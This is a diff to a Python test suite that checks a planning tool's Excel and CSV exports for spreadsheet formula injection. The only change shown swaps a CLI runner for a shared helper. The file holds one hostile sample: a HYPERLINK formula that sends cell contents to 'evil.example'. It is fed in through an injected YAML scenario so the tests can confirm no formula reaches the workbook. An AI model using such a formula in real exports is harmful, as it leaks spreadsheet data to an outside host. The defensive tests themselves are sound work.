@@ -19,9 +19,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 from openpyxl.styles.numbers import is_date_format
-from typer.testing import CliRunner
 
-from optimizer.cli import app
 from optimizer.common.inert import (
     csv_frame,
     csv_text,
@@ -34,9 +32,8 @@ from optimizer.io.load import load_scenario
 from optimizer.io.run_folder import read_run
 from optimizer.reports.csv_files import csv_bytes
 from optimizer.reports.excel import Formats
-from tests.conftest import SCENARIOS, SCENARIOS_2025
+from tests.conftest import SCENARIOS, SCENARIOS_2025, run_cli
 
-runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
 HOSTILE = f"""
 name: inj
@@ -71,7 +68,7 @@ def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
     path = folder / "inj.yaml"
     path.write_text(HOSTILE)
     out = folder / "run"
-    res = runner.invoke(app, ["run", str(path), "--out", str(out), "--excel"])
+    res = run_cli(["run", str(path), "--out", str(out), "--excel"])
     assert res.exit_code == 0, res.output
     return out
 
@@ -180,8 +177,7 @@ def test_the_workbook_has_no_formula_anywhere(hostile_run: Path) -> None:
 
 def test_workbook_of_a_shipped_scenario_has_no_formula(tmp_path: Path) -> None:
     out = tmp_path / "run"
-    res = runner.invoke(
-        app, ["run", str(SCENARIOS_2025 / "robust-2025.yaml"), "--out", str(out), "--excel"]
+    res = run_cli(["run", str(SCENARIOS_2025 / "robust-2025.yaml"), "--out", str(out), "--excel"]
     )
     assert res.exit_code == 0, res.output
     assert formulas(out / "plan.xlsx") == []
@@ -211,7 +207,7 @@ def test_money_in_a_quoted_currency_reads_back_as_a_number(tmp_path: Path) -> No
     path = tmp_path / "q.yaml"
     path.write_text(HOSTILE)
     out = tmp_path / "run"
-    assert runner.invoke(app, ["run", str(path), "--out", str(out), "--excel"]).exit_code == 0
+    assert run_cli(["run", str(path), "--out", str(out), "--excel"]).exit_code == 0
     wb = load_workbook(out / "plan.xlsx")
     for ws in wb.worksheets:
         for row in ws.iter_rows():
